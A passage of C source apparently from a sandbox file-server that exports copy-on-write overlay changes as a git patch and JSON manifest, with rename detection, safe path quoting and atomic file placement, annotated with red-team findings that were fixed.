		c->path = xstrdup(".");
	}
	c->is_dir = 1;
	c->xattr_only = 1;
	c->old_mode = lst.st_mode;
	c->new_mode = ust.st_mode;
}

static void diff_dir(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
		     int have_lower, int opaque)
{
	size_t nu, nl = 0;
	char **u = list_dir(e->upperfd, rel, &nu), **l = NULL;

	if (!u) {
		refuse(x, e, rel[0] ? rel : ".", "unreadable directory");
		return;
	}
	if (have_lower && opaque)
		l = list_dir(e->lowerfd, rel, &nl);
	for (size_t i = 0; i < nu && !late(x); i++) {
		char *cr = join(rel, u[i]);
		struct stat ust, lst;
		int hl;

		if (!strcmp(u[i], ".git") && x->nsk >= listed_max(x)) {
			x->sk_unlisted++;
			free(cr);
			continue;
		}
		if (!strcmp(u[i], ".git")) {
			x->skipped = realloc(x->skipped, (x->nsk + 1) * sizeof *x->skipped);
			if (!x->skipped)
				_exit(GOFER_EXIT_EXPORT_FAILED);
			x->skipped[x->nsk] = xmalloc(strlen(e->cow_prefix) + strlen(cr) + 1);
			sprintf(x->skipped[x->nsk++], "%s%s", e->cow_prefix, cr);
			free(cr);
			continue;
		}
		if (hidden(e, cr)) {
			free(cr);
			continue;
		}
		/* a name the walk cannot reach (a path past PATH_MAX: the guest
		 * made it through relative walks) is refused with what is below
		 * it, never left out unsaid (red team 13: 40 levels of 250-byte
		 * names, the file at the bottom was in neither list) */
		if (strlen(cr) >= PATH_MAX) {
			refuse(x, e, cr, "path too long (PATH_MAX): not exported, nor anything beneath it");
			free(cr);
			continue;
		}
		if (lst_at(e->upperfd, cr, &ust) < 0) {
			refuse(x, e, cr, "unreadable");
			free(cr);
			continue;
		}
		if (S_ISREG(ust.st_mode) && gofer_temp_name(u[i])) {
			free(cr);  /* (a copy-up's temporary: never exported) */
			continue;
		}
		hl = have_lower && lst_at(e->lowerfd, cr, &lst) == 0;
		if (S_ISCHR(ust.st_mode) && ust.st_rdev == makedev(0, 0)) {
			if (hl)
				delete_tree(x, e, cr, &lst);     /* whiteout */
		} else if (S_ISDIR(ust.st_mode)) {
			int lower_dir = hl && S_ISDIR(lst.st_mode);
			if (hl && sealed_lower(x, e, cr, &lst)) {
				free(cr);
				continue;
			}
			if (bad_name(u[i])) {
				refuse(x, e, cr, "name a patch cannot carry");
			} else if (git_refuses(u[i], 0)) {
				refuse(x, e, cr, "name git apply refuses (.git in another form): the whole "
					 "patch would fail");
			} else {
				if (hl && !lower_dir)
					delete_tree(x, e, cr, &lst);
				char *xa = xattr_changes(e, cr, &ust, lower_dir ? &lst : NULL);
				if (!lower_dir) {
					struct change *c = add_change(x, e, cr, OP_ADD);
					c->is_dir = 1;
					c->new_mode = ust.st_mode;
					c->xattrs = xa;
				} else if (xa || ((ust.st_mode ^ lst.st_mode) & 07777)) {
					/* a directory's attributes or mode changed
					 * (the mode: a chmod the patch cannot
					 * carry; before red-team round 24 in
					 * neither file) */
					struct change *c = add_change(x, e, cr, OP_MODIFY);
					c->is_dir = 1;
					c->xattr_only = 1;
					c->old_mode = lst.st_mode;
					c->new_mode = ust.st_mode;
					c->xattrs = xa;
				}
				/* beneath an opaque directory no lower entry shows */
				diff_dir(x, e, cr, lower_dir, opaque || is_opaque(e->upperfd, cr));
			}
		} else {
			upper_file(x, e, cr, u[i], &ust, hl ? &lst : NULL);
		}
		free(cr);
	}
	/* an opaque directory hides every lower entry it does not list */
	for (size_t i = 0; l && i < nl && !late(x); i++) {
		if (bsearch(&l[i], u, nu, sizeof *u, cmp_str))
			continue;
		char *cr = join(rel, l[i]);
		struct stat lst;
		if (strlen(cr) >= PATH_MAX)
			refuse(x, e, cr, "path too long (PATH_MAX): its deletion is not exported");
		else if (lst_at(e->lowerfd, cr, &lst) == 0)
			delete_tree(x, e, cr, &lst);
		free(cr);
	}
	free_list(u, nu);
	if (l)
		free_list(l, nl);
}

static int is_binary(const char *d, size_t n)
{
	return memchr(d, 0, n < 8000 ? n : 8000) != NULL;
}

/* ---- renames by similarity (git's default: at least 50%) ----
 *
 * As git's diffcore estimates it: a file is cut into chunks (a line, or 64
 * bytes without a newline; a '\r' before '\n' left out in text), each
 * chunk's hash weighs its bytes, and the similarity of two files is the
 * bytes of chunks they share (the smaller weight of each) over the larger
 * file's size. Each delete and add of a regular file pairs at most once,
 * best scores first. Bounded: only files of at most SIM_MAX_BYTES, at most
 * SIM_MAX_PAIRS pairs (git's renameLimit 1000, squared), SIM_MAX_CHUNKS
 * distinct chunks held and SIM_MAX_WORK chunk comparisons in all; past a
 * bound no inexact rename is sought. */

#define SIM_MAX_BYTES (4U << 20)
#define SIM_MAX_PAIRS (1000ULL * 1000)
#define SIM_MAX_WORK (1ULL << 28)
#define SIM_MAX_CHUNKS (1ULL << 22)     /* distinct chunks held: 64 MiB */

struct chunk {
	uint64_t h;
	unsigned long long n;
};

struct fp {
	struct chunk *c;
	size_t k;
	unsigned long long size;
	size_t ch;                  /* its change */
};

static int cmp_chunk(const void *a, const void *b)
{
	uint64_t x = ((const struct chunk *)a)->h, y = ((const struct chunk *)b)->h;
	return x < y ? -1 : x > y;
}

static int fingerprint(int dirfd, const char *rel, struct fp *f)
{
	struct stat st;
	char *d, buf[64];
	size_t n, bl = 0, k = 0;

	if (lst_at(dirfd, rel, &st) < 0 || !S_ISREG(st.st_mode) || !st.st_size ||
	    (unsigned long long)st.st_size > SIM_MAX_BYTES ||
	    slurp(dirfd, rel, &st, SIM_MAX_BYTES, &d, &n) < 0)
		return -1;
	int text = !is_binary(d, n);
	f->c = xmalloc((n + 1) * sizeof *f->c);
	f->size = n;
	for (size_t i = 0; i < n; i++) {
		if (text && d[i] == '\r' && i + 1 < n && d[i + 1] == '\n')
			continue;
		buf[bl++] = d[i];
		if (d[i] == '\n' || bl == sizeof buf || i + 1 == n) {
			f->c[k].h = XXH3_64bits(buf, bl);
			f->c[k++].n = bl;
			bl = 0;
		}
	}
	free(d);
	qsort(f->c, k, sizeof *f->c, cmp_chunk);
	f->k = 0;
	for (size_t i = 0; i < k; i++) {
		if (f->k && f->c[f->k - 1].h == f->c[i].h)
			f->c[f->k - 1].n += f->c[i].n;
		else
			f->c[f->k++] = f->c[i];
	}
	f->c = realloc(f->c, (f->k + 1) * sizeof *f->c);
	if (!f->c)
		_exit(GOFER_EXIT_EXPORT_FAILED);
	return 0;
}

/* percent of the larger file's bytes in chunks both share */
static unsigned similar(const struct fp *a, const struct fp *b)
{
	unsigned long long both = 0, big = a->size > b->size ? a->size : b->size;

	for (size_t i = 0, k = 0; i < a->k && k < b->k;) {
		if (a->c[i].h < b->c[k].h)
			i++;
		else if (a->c[i].h > b->c[k].h)
			k++;
		else
			both += a->c[i].n < b->c[k].n ? a->c[i++].n : b->c[k++].n;
	}
	return (unsigned)(both * 100 / big);
}

struct cand {
	size_t d, a;                /* indices into the fingerprints */
	unsigned score;
};

static int cmp_cand(const void *x, const void *y)
{
	const struct cand *p = x, *q = y;

	if (p->score != q->score)
		return p->score > q->score ? -1 : 1;
	if (p->a != q->a)
		return p->a < q->a ? -1 : 1;
	return p->d < q->d ? -1 : p->d > q->d;
}

/* a deleted or an added regular file */
static int sim_candidate(const struct change *c)
{
	return !c->is_dir && ((c->op == OP_DELETE && S_ISREG(c->old_mode)) ||
			      (c->op == OP_ADD && S_ISREG(c->new_mode)));
}

static void pair_similar(struct ctx *x)
{
	struct fp *fd = NULL, *fa = NULL;
	size_t nd = 0, na = 0, ncand = 0;
	unsigned long long kd = 0, ka = 0;
	struct cand *cand = NULL;
	size_t dels = 0, adds = 0;

	for (size_t i = 0; i < x->nch; i++)
		if (sim_candidate(&x->ch[i]))
			*(x->ch[i].op == OP_DELETE ? &dels : &adds) += 1;
	if (!dels || !adds || (unsigned long long)dels * adds > SIM_MAX_PAIRS)
		return;
	for (size_t i = 0; i < x->nch; i++) {
		struct change *c = &x->ch[i];
		int del = c->op == OP_DELETE;
		if (!sim_candidate(c))
			continue;
		if (kd + ka > SIM_MAX_CHUNKS || late(x))
			goto out;
		struct fp f = { .ch = i };
		if (fingerprint(del ? c->e->lowerfd : c->e->upperfd, c->rel, &f) < 0)
			continue;
		struct fp **v = del ? &fd : &fa;
		size_t *nv = del ? &nd : &na;
		*v = realloc(*v, (*nv + 1) * sizeof **v);
		if (!*v)
			_exit(GOFER_EXIT_EXPORT_FAILED);
		(*v)[(*nv)++] = f;
		*(del ? &kd : &ka) += f.k;
	}
	if (!nd || !na || kd + ka > SIM_MAX_CHUNKS || kd * na + ka * nd > SIM_MAX_WORK)
		goto out;
	cand = xmalloc(nd * na * sizeof *cand);
	for (size_t i = 0; i < nd && !late(x); i++)
		for (size_t k = 0; k < na; k++) {
			const struct fp *p = &fd[i], *q = &fa[k];
			unsigned long long lo = p->size < q->size ? p->size : q->size,
					   hi = p->size < q->size ? q->size : p->size;
			if (x->ch[p->ch].e != x->ch[q->ch].e || 2 * lo < hi)
				continue;       /* under 50% whatever they share */
			unsigned sc = similar(p, q);
			if (sc >= 50)
				cand[ncand++] = (struct cand){ i, k, sc };
		}
	qsort(cand, ncand, sizeof *cand, cmp_cand);
	for (size_t i = 0; i < ncand; i++) {
		struct change *d = &x->ch[fd[cand[i].d].ch], *a = &x->ch[fa[cand[i].a].ch];
		if (d->op != OP_DELETE || a->op != OP_ADD)
			continue;       /* paired already */
		a->op = OP_RENAME;
		a->from = d->path;
		a->from_rel = d->rel;
		a->old_mode = d->old_mode;
		a->similarity = (int)cand[i].score;
		d->op = -1;
		x->files--;
	}
out:
	for (size_t i = 0; i < nd; i++)
		free(fd[i].c);
	for (size_t i = 0; i < na; i++)
		free(fa[i].c);
	free(fd);
	free(fa);
	free(cand);
}

/* A delete and an add of the same content and mode: a rename. */
static void pair_renames(struct ctx *x)
{
	for (size_t i = 0; i < x->nch && !late(x); i++) {
		struct change *d = &x->ch[i];
		if (d->op != OP_DELETE || d->is_dir || !d->old_sha[0])
			continue;
		for (size_t k = 0; k < x->nch; k++) {
			struct change *a = &x->ch[k];
			if (a->op != OP_ADD || a->is_dir || a->e != d->e ||
			    strcmp(a->sha256, d->old_sha) || a->new_mode != d->old_mode)
				continue;
			a->op = OP_RENAME;
			a->from = d->path;
			a->from_rel = d->rel;
			a->old_mode = d->old_mode;
			a->similarity = 100;
			d->op = -1;             /* folded into the rename */
			x->files--;
			break;
		}
	}
	if (!late(x))
		pair_similar(x);
}

/* ---- output ---- */

/* git's base85 alphabet */
static const char b85[] =
	"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";

static uint32_t adler32(const unsigned char *d, size_t n)
{
	uint32_t a = 1, b = 0;

	for (size_t i = 0; i < n; i++) {
		a = (a + d[i]) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

/* A zlib stream of stored (uncompressed) deflate blocks: what git inflates,
 * without a compression library. */
static unsigned char *zstore(const char *d, size_t n, size_t *out_len)
{
	size_t nb = n / 65535 + 1, len = 2 + nb * 5 + n + 4, o = 0;
	unsigned char *z = xmalloc(len);
	uint32_t ad = adler32((const unsigned char *)d, n);

	z[o++] = 0x78;
	z[o++] = 0x01;
	for (size_t i = 0; i < nb; i++) {
		size_t k = n - i * 65535 < 65535 ? n - i * 65535 : 65535;
		z[o++] = i + 1 == nb;
		z[o++] = (unsigned char)k;
		z[o++] = (unsigned char)(k >> 8);
		z[o++] = (unsigned char)~k;
		z[o++] = (unsigned char)(~k >> 8);
		memcpy(z + o, d + i * 65535, k);
		o += k;
	}
	z[o++] = (unsigned char)(ad >> 24);
	z[o++] = (unsigned char)(ad >> 16);
	z[o++] = (unsigned char)(ad >> 8);
	z[o++] = (unsigned char)ad;
	*out_len = o;
	return z;
}

static void binary_literal(FILE *f, const char *d, size_t n)
{
	size_t zl;
	unsigned char *z = zstore(d, n, &zl);

	fprintf(f, "literal %zu\n", n);
	for (size_t o = 0; o < zl; o += 52) {
		size_t k = zl - o < 52 ? zl - o : 52;
		fputc(k <= 26 ? 'A' + (int)k - 1 : 'a' + (int)k - 27, f);
		for (size_t j = 0; j < k; j += 4) {
			uint32_t acc = 0;
			char out[5];
			for (int b = 0; b < 4; b++)
				acc = acc << 8 | (j + b < k ? z[o + j + b] : 0);
			for (int c = 4; c >= 0; c--) {
				out[c] = b85[acc % 85];
				acc /= 85;
			}
			fwrite(out, 1, 5, f);
		}
		fputc('\n', f);
	}
	fputc('\n', f);
	free(z);
}

/* A path of the patch as git writes it (moat_quote_path: C-quoted when it
 * holds a byte outside printable ASCII; red team 50: before, a name's
 * U+202E, U+2028 or zero-width space went raw into the headers, where `cat`
 * or a review tool showed another name than git apply writes); prefix
 * "a/", "b/" or "" */
static void qpath(FILE *f, const char *prefix, const char *p)
{
	size_t cap = 4 * (strlen(prefix) + strlen(p)) + 3;
	char *q = xmalloc(cap);
	moat_quote_path(q, cap, prefix, p, 0);
	fputs(q, f);
	free(q);
}

/* "diff --git a/FROM b/TO\n" */
static void diff_header(FILE *f, const char *from, const char *to)
{
	fputs("diff --git ", f);
	qpath(f, "a/", from);
	fputc(' ', f);
	qpath(f, "b/", to);
	fputc('\n', f);
}

/* "rename from FROM\nrename to TO\n" */
static void rename_lines(FILE *f, const char *from, const char *to)
{
	fputs("rename from ", f);
	qpath(f, "", from);
	fputs("\nrename to ", f);
	qpath(f, "", to);
	fputc('\n', f);
}

/* "--- a/P" or "+++ b/P" (or /dev/null), a tab after a name with a space
 * as git writes it */
static void file_line(FILE *f, const char *mark, const char *prefix, const char *p)
{
	fputs(mark, f);
	if (!p) {
		fputs("/dev/null\n", f);
		return;
	}
	qpath(f, prefix, p);
	fputs(strchr(p, ' ') ? "\t\n" : "\n", f);
}

static void patch_entry(struct ctx *x, FILE *f, struct change *c)
{
	static const char zero[] = "0000000000000000000000000000000000000000";
	const struct gofer_srv_export *e = c->e;
	char *od = NULL, *nd = NULL, oid[41], nid[41];
	size_t on = 0, nn = 0;
	struct stat st;

	if (c->is_dir || c->op < 0 || c->xattr_only)
		return;
	if (c->op == OP_RENAME && c->similarity == 100) {
		diff_header(f, c->from, c->path);
		/* (an exact rename by content whose git mode changed: before
		 * red-team round 64 the mode lines were left out, and git apply
		 * kept the old mode, a 100755 file the manifest said 0644) */
		if (git_mode(c->old_mode) != git_mode(c->new_mode))
			fprintf(f, "old mode %06o\nnew mode %06o\n", git_mode(c->old_mode),
				git_mode(c->new_mode));
		fputs("similarity index 100%\n", f);
		rename_lines(f, c->from, c->path);
		return;
	}
	const char *orel = c->op == OP_RENAME ? c->from_rel : c->rel;
	const char *opath = c->op == OP_RENAME ? c->from : c->path;
	if (c->op != OP_ADD && lst_at(e->lowerfd, orel, &st) == 0 &&
	    slurp(e->lowerfd, orel, &st, ~0ULL, &od, &on) < 0)
		x->failed = 1;
	if (c->op != OP_DELETE && lst_at(e->upperfd, c->rel, &st) == 0 &&
	    slurp(e->upperfd, c->rel, &st, ~0ULL, &nd, &nn) < 0)
		x->failed = 1;
	if (!od)
		od = xstrdup("");
	if (!nd)
		nd = xstrdup("");
	blob_id(od, on, oid);
	blob_id(nd, nn, nid);
	diff_header(f, opath, c->path);
	if (c->op == OP_RENAME) {
		if (git_mode(c->old_mode) != git_mode(c->new_mode))
			fprintf(f, "old mode %06o\nnew mode %06o\n", git_mode(c->old_mode),
				git_mode(c->new_mode));
		fprintf(f, "similarity index %d%%\n", c->similarity);
		rename_lines(f, opath, c->path);
	}
	if (c->op == OP_ADD)
		fprintf(f, "new file mode %06o\nindex %s..%s\n", git_mode(c->new_mode), zero, nid);
	else if (c->op == OP_DELETE)
		fprintf(f, "deleted file mode %06o\nindex %s..%s\n", git_mode(c->old_mode), oid, zero);
	else if (git_mode(c->old_mode) != git_mode(c->new_mode) && c->op == OP_RENAME)
		fprintf(f, "index %s..%s\n", oid, nid);        /* modes said above */
	else if (git_mode(c->old_mode) != git_mode(c->new_mode))
		fprintf(f, "old mode %06o\nnew mode %06o\nindex %s..%s\n", git_mode(c->old_mode),
			git_mode(c->new_mode), oid, nid);
	else
		fprintf(f, "index %s..%s %06o\n", oid, nid, git_mode(c->new_mode));
	if (c->op == OP_MODIFY && on == nn && !memcmp(od, nd, on))
		goto out;                       /* a mode change */
	if (is_binary(od, on) || is_binary(nd, nn)) {
		fputs("GIT binary patch\n", f);
		binary_literal(f, nd, nn);
	} else if (on || nn) {
		file_line(f, "--- ", "a/", c->op == OP_ADD ? NULL : opath);
		file_line(f, "+++ ", "b/", c->op == OP_DELETE ? NULL : c->path);
		unsigned long long left = EXPORT_DIFF_WORK - x->diff_work;
		struct linediff_stats ls;
		linediff_write(f, od, on, nd, nn, left < LINEDIFF_MAX_WORK ? left : LINEDIFF_MAX_WORK,
			       &ls);
		x->diff_work += ls.work < left ? ls.work : left;
		c->whole = ls.fell_back;
	}
out:
	free(od);
	free(nd);
}

/* A JSON string: controls and bidi marks escaped (\\uXXXX), a byte that is
 * no UTF-8 (a refused name's) as \\u00XX: the manifest is valid JSON and
 * holds nothing a terminal acts on */
static void json_str(FILE *f, const char *s)
{
	fputc('"', f);
	for (const unsigned char *p = (const unsigned char *)s; *p;) {
		int l;
		long c = utf8_at(p, &l);
		if (c < 0) {
			fprintf(f, "\\u%04x", *p);
			l = 1;
		} else if (c == '"' || c == '\\') {
			fprintf(f, "\\%c", (int)c);
		} else if (unsafe_cp(c)) {
			fprintf(f, "\\u%04lx", c);
		} else {
			fwrite(p, 1, (size_t)l, f);
		}
		p += l;
	}
	fputc('"', f);
}

/* A refused name that is no UTF-8 also as its bytes, `"path_hex"`: its
 * JSON string has each bad byte as \u00XX, the same string as U+00XX's,
 * so `h\x9b` and `h\xc2\x9b` (U+009B) were one name in the manifest and
 * in `moat diff`, neither the name on disk (red team 86) */
static void json_hex_if_no_utf8(FILE *f, const char *s)
{
	const unsigned char *p = (const unsigned char *)s;
	int l;
	while (*p && utf8_at(p, &l) >= 0)
		p += l;
	if (!*p)
		return;
	fputs(", \"path_hex\": \"", f);
	for (p = (const unsigned char *)s; *p; p++)
		fprintf(f, "%02x", *p);
	fputc('"', f);
}

/* An output file: unnamed (O_TMPFILE) where the file system has it, so a
 * gofer killed before it is complete leaves nothing behind; else under the
 * ".part" name. *anon says which. */
static FILE *out_file(int dirfd, const char *name, mode_t mode, int *anon)
{
	int fd;

	*anon = 1;
	struct open_how how = { .flags = O_TMPFILE | O_WRONLY | O_CLOEXEC, .mode = mode,
				.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS };
	fd = (int)syscall(SYS_openat2, dirfd, ".", &how, sizeof how);
	if (fd < 0) {
		*anon = 0;
		/* a new file each time: never write through a name someone else made */
		if (unlinkat(dirfd, name, 0) < 0 && errno != ENOENT)
			return NULL;
		struct open_how h = { .flags = O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC | O_NOFOLLOW,
				      .mode = mode,
				      .resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS |
						 RESOLVE_NO_MAGICLINKS | RESOLVE_NO_XDEV };
		fd = (int)syscall(SYS_openat2, dirfd, name, &h, sizeof h);
	}
	FILE *f = fd >= 0 ? fdopen(fd, "w") : NULL;

	if (!f && fd >= 0)
		close(fd);
	return f;
}

/* a complete output into place: an unnamed one linked, a ".part" renamed
 * (both after a flush: the name never shows a file still being written) */
static int out_place(int dirfd, FILE *f, int anon, const char *part, const char *name)
{
	if (anon)
		return linkat(fileno(f), "", dirfd, name, AT_EMPTY_PATH);
	return renameat(dirfd, part, dirfd, name);
}

/* The export is all or nothing (red team 18): each file is written unnamed
 * (O_TMPFILE; where the file system lacks it, under a ".part" name) and
 * linked (renamed) into place only once it is complete, the patch last: a
 * gofer killed meanwhile leaves no file at all (stop 24; the ".part" files
 * stayed until the next export). A gofer that dies meanwhile (an OOM kill in the sandbox's memory
 * cgroup, which a guest provokes by filling its layers first and sizing a
 * file's diff to a 4096-byte stdio flush) used to leave a changes.patch cut
 * at a file boundary, which git apply takes as a smaller, valid patch; and
 * one that died before write_group left the previous run's files in place. */
#define PART_PATCH ".changes.patch.part"
#define PART_MANIFEST ".manifest.json.part"

static int clear_group(int exportfd, const char *name)
{
	struct open_how how = { .flags = O_PATH | O_DIRECTORY | O_CLOEXEC,
				.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS };
	int dfd = (int)syscall(SYS_openat2, exportfd, name, &how, sizeof how);
	if (dfd < 0)
		return errno == ENOENT ? 0 : -1;
	int r = 0;
	static const char *const names[] = { "changes.patch", "manifest.json", PART_PATCH,
					     PART_MANIFEST };
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		if (unlinkat(dfd, names[i], 0) < 0 && errno != ENOENT)
			r = -1;
	close(dfd);
	return r;
}

static const char *type_of(const struct change *c)
{
	mode_t m = c->new_mode ? c->new_mode : c->old_mode;
	return c->is_dir ? "dir" : S_ISLNK(m) ? "symlink" : "file";
}

/* The mode of a group's changes.patch and manifest.json: 0600 when a change
 * carries the content of a file others may not read (the lower's or the
 * upper's mode without S_IROTH: a modified 0600 .env's hunks and context, a
 * deleted one's whole text, its hashes in the manifest), else 0644. Red team 94: a guest's edit or `rm` of the
 * caller's 0600 .env in a cow bind put API_KEY=... in a 0644 changes.patch
 * that every local user could read in the export DIR. (The gofer's umask
 * is 0: these modes are the files'.) */
/* 1 when others may not search the export's root or a directory on the
 * way to rel (beneath either layer's root): red team 97, a 0644 file in a
 * 0700 directory (~/.ssh/config, secret/conf) went into a 0644 patch */
static int dirs_shut_to_others(const struct change *c, const char *rel)
{
	if (!rel || !c->e)
		return 0;
	int fds[2] = { c->e->lowerfd, c->e->upperfd };
	char buf[PATH_MAX];
	snprintf(buf, sizeof buf, "%s", rel);
	for (int k = 0; k < 2; k++) {
		struct stat st;
		if (fds[k] < 0)
			continue;
		if (fstat(fds[k], &st) == 0 && !(st.st_mode & S_IXOTH))
			return 1;
		for (char *sl = strchr(buf, '/'); sl; sl = strchr(sl + 1, '/')) {
			*sl = 0;
			int r = fstatat(fds[k], buf, &st, AT_SYMLINK_NOFOLLOW);
			*sl = '/';
			if (r == 0 && S_ISDIR(st.st_mode) && !(st.st_mode & S_IXOTH))
				return 1;
		}
	}
	return 0;
}

static mode_t out_mode(const struct ctx *x)
{
	for (size_t i = 0; i < x->nch; i++) {
		const struct change *c = &x->ch[i];
		mode_t m[2] = { c->old_mode, c->new_mode };
		for (int k = 0; k < 2; k++)
			if (m[k] && !S_ISDIR(m[k]) && !(m[k] & S_IROTH))
				return 0600;
		if (dirs_shut_to_others(c, c->rel) || dirs_shut_to_others(c, c->from_rel))
			return 0600;
	}
	return 0644;
}

static int write_group(struct ctx *x, const char *name, const struct gofer_srv_export *first,
		       size_t nexp)
{
	struct open_how how = { .flags = O_PATH | O_DIRECTORY | O_CLOEXEC,
				.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS };
	struct stat st;
	FILE *pf, *mf;
	int dfd;

	if (mkdirat(x->srv->exportfd, name, 0755) < 0 && errno != EEXIST)
		return -1;
	dfd = (int)syscall(SYS_openat2, x->srv->exportfd, name, &how, sizeof how);
	if (dfd < 0)
		return -1;
	int pa = 0, ma = 0;
	mode_t mode = out_mode(x);
	pf = out_file(dfd, PART_PATCH, mode, &pa);
	mf = out_file(dfd, PART_MANIFEST, mode, &ma);
	if (!pf || !mf) {
		if (pf)
			fclose(pf);
		if (mf)
			fclose(mf);
		close(dfd);
		return -1;
	}
	for (size_t i = 0; i < x->nch && !late(x); i++)
		patch_entry(x, pf, &x->ch[i]);

	fputs("{\n  \"version\": 1,\n  \"mount\": ", mf);
	json_str(mf, name);
	fputs(",\n  \"base\": [", mf);
	int first_b = 1;
	for (size_t i = 0; i < nexp; i++) {
		const struct gofer_srv_export *e = &first[i];
		if (!e->cow || strcmp(e->cow_name, name))
			continue;
		if (fstat(e->lowerfd, &st) < 0)
			memset(&st, 0, sizeof st);
		fputs(first_b ? "\n    {\"source\": " : ",\n    {\"source\": ", mf);
		first_b = 0;
		json_str(mf, e->host_path);
		fputs(", \"prefix\": ", mf);
		json_str(mf, e->cow_prefix);
		fprintf(mf, ", \"dev\": %llu, \"ino\": %llu, \"mtime\": %lld.%09ld}",
			(unsigned long long)st.st_dev, (unsigned long long)st.st_ino,
			(long long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec);
	}
	fputs("\n  ],\n  \"changes\": [", mf);
	int first_c = 1;
	for (size_t i = 0; i < x->nch; i++) {
		const struct change *c = &x->ch[i];
		if (c->op < 0)
			continue;
		fputs(first_c ? "\n    {\"path\": " : ",\n    {\"path\": ", mf);
		first_c = 0;
		json_str(mf, c->path);
		fprintf(mf, ", \"op\": \"%s\", \"type\": \"%s\"", op_name[c->op], type_of(c));
		if (c->from) {
			fputs(", \"from\": ", mf);
			json_str(mf, c->from);
			fprintf(mf, ", \"similarity\": %d", c->similarity);
		}
		if (c->op != OP_DELETE && S_ISLNK(c->new_mode)) {
			/* where the link points, for moat diff to show before
			 * the patch is applied (red team 64: it showed none) */
			char t[PATH_MAX];
			ssize_t n = readlink_at(c->e->upperfd, c->rel, t, sizeof t - 1);
			if (n >= 0) {
				t[n] = 0;
				fputs(", \"target\": ", mf);
				json_str(mf, t);
			}
		}
		if (c->op != OP_DELETE) {
			fprintf(mf, ", \"mode\": \"%04o\"", (unsigned)(c->new_mode & 07777));
			if (!c->is_dir)
				fprintf(mf, ", \"bytes\": %llu, \"xxh3\": \"%s\", \"sha256\": \"%s\"",
					c->bytes, c->xxh3, c->sha256);
			if (c->controls && !c->xattr_only)
				fputs(", \"controls\": true", mf);
			if (c->whole)
				fputs(", \"hunk\": \"whole changed middle (line diff bound)\"", mf);
			if (c->xattrs)
				fprintf(mf, ", \"xattrs\": %s", c->xattrs);
			/* a changed mode's old one, for moat diff to show (a patch
			 * carries 100644/100755 only: red-team round 64, a chmod
			 * 0666 of a host file was "M f" with no mode); last, after
			 * the fields readers match in this order */
			if ((c->op == OP_MODIFY || c->op == OP_RENAME) && c->old_mode &&
			    ((c->old_mode ^ c->new_mode) & 07777))
				fprintf(mf, ", \"old_mode\": \"%04o\"", (unsigned)(c->old_mode & 07777));
		}
		fputc('}', mf);
	}
	fputs("\n  ],\n  \"refused\": [", mf);
	for (size_t i = 0; i < x->nrf; i++) {
		fputs(i ? ",\n    {\"path\": " : "\n    {\"path\": ", mf);
		json_str(mf, x->rf[i].path);
		json_hex_if_no_utf8(mf, x->rf[i].path);
		fputs(", \"reason\": ", mf);
		json_str(mf, x->rf[i].reason);
		fputc('}', mf);
	}
	fputs("\n  ],\n  \"skipped\": [", mf);
	for (size_t i = 0; i < x->nsk; i++) {
		fputs(i ? ",\n    {\"path\": " : "\n    {\"path\": ", mf);
		json_str(mf, x->skipped[i]);
		fputs(", \"reason\": \"git metadata: git apply never writes it\"}", mf);
	}
	fprintf(mf, "\n  ],\n  \"totals\": {\"files\": %llu, \"bytes\": %llu, \"refused_unlisted\": %llu, "
		"\"skipped_unlisted\": %llu}\n}\n", x->files, x->bytes, x->rf_unlisted, x->sk_unlisted);
	int bad = ferror(pf) | ferror(mf) | x->failed | late(x);
	bad |= fflush(pf) != 0;
	bad |= fflush(mf) != 0;
	if (!bad) { /* placed with the other groups' (place_all) */
		x->pend = realloc(x->pend, (x->npend + 1) * sizeof *x->pend);
		if (!x->pend)
			_exit(GOFER_EXIT_EXPORT_FAILED);
		x->pend[x->npend++] = (struct pending){ dfd, pa, ma, pf, mf };
		return 0;
	}
	fclose(pf);
	fclose(mf);
	unlinkat(dfd, PART_PATCH, 0);
	unlinkat(dfd, PART_MANIFEST, 0);
	close(dfd);
	return -1;
}

/* Every complete group into place once all are written (none if the export
 * was given up: late), each manifest first (killed in between, there is no
 * patch to apply); else no half of one under the real names. Before
 * --timeout bounded the export each group was placed as it was written: a
 * gofer killed at the deadline would have left the first groups' patches
 * and not the rest. */
static int place_all(struct ctx *x)
{
	int failed = 0;

	for (size_t i = 0; i < x->npend; i++) {
		struct pending *p = &x->pend[i];
		int bad = x->late;
		if (!bad && (out_place(p->dfd, p->mf, p->ma, PART_MANIFEST, "manifest.json") < 0 ||
			     out_place(p->dfd, p->pf, p->pa, PART_PATCH, "changes.patch") < 0))
			bad = 1;
		bad |= fclose(p->pf) != 0;
		bad |= fclose(p->mf) != 0;
		if (bad) {
			unlinkat(p->dfd, PART_PATCH, 0);
			unlinkat(p->dfd, PART_MANIFEST, 0);
			unlinkat(p->dfd, "changes.patch", 0);
			unlinkat(p->dfd, "manifest.json", 0);
			failed = 1;
		}
		close(p->dfd);
	}
	free(x->pend);
	x->pend = NULL;
	x->npend = 0;
	return failed ? -1 : 0;
}

static void reset(struct ctx *x)
{
	for (size_t i = 0; i < x->nch; i++) {
		free(x->ch[i].path);
		free(x->ch[i].rel);
		free(x->ch[i].xattrs);
	}
	for (size_t i = 0; i < x->nrf; i++)
		free(x->rf[i].path);
	for (size_t i = 0; i < x->nsk; i++)
		free(x->skipped[i]);
	x->nch = x->nrf = x->nsk = 0;
	x->files = x->bytes = x->rf_unlisted = x->sk_unlisted = x->hdr_bytes = 0;
}

int gofer_export_run(const struct gofer_srv *srv)
{
	struct ctx x = { .srv = srv };
	int refused = 0, failed = 0;
	static double deadline;
	pthread_t dl;

	deadline = gofer_export_deadline();
	if (deadline > 0 && pthread_create(&dl, NULL, deadline_main, &deadline) == 0)
		pthread_detach(dl);

	/* an earlier run's files out first: a death before a group's rename
	 * must leave nothing to apply, not the last run's patch */
	for (size_t i = 0; i < srv->n; i++)
		if (srv->exp[i].cow && clear_group(srv->exportfd, srv->exp[i].cow_name) < 0)
			failed = 1;
	for (size_t i = 0; i < srv->n; i++) {
		const struct gofer_srv_export *e = &srv->exp[i];
